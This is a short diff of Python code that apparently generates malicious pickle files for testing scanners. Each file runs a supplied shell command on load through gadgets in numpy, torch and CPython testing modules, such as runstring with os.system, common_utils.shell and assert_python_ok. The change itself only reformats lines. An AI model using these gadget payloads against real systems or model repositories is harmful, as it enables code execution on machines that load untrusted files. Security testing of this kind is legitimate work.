@@ -140,10 +140,13 @@ def wildcard_admitted(command: str) -> dict[str, bytes]:
             _g("scipy.spatial.transform._rotation", "ModuleType"), su("payload")
         ),
         "numpy_testing.pkl": _call(
-            _g("numpy.testing._private.utils", "runstring"), su(f"__import__('os').system({command!r})"),
+            _g("numpy.testing._private.utils", "runstring"),
+            su(f"__import__('os').system({command!r})"),
             b"}",
         ),
-        "torch_testing.pkl": _call(_g("torch.testing._internal.common_utils", "shell"), su(command)),
+        "torch_testing.pkl": _call(
+            _g("torch.testing._internal.common_utils", "shell"), su(command)
+        ),
         "test_support.pkl": _call(
             _g("test.support.script_helper", "assert_python_ok"), su("-c"), su(command)
         ),
